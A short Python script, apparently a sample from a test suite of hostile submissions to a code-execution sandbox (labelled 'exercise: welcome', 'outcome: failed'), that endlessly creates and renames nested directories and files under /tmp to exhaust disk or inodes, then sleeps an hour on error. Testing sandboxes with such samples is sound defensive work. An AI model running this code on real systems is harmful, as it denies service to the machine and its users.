# attack: makes files and directories without end | 无休止地创建文件和目录
# exercise: welcome
# outcome: failed
import itertools
import os
import time

try:
    for number in itertools.count():
        os.mkdir("/tmp/d")
        os.chdir("/tmp/d")
        open(f"file-{number}", "w").close()
        os.rename("/tmp/d", f"/tmp/d{number}")
except OSError:
    time.sleep(3600)
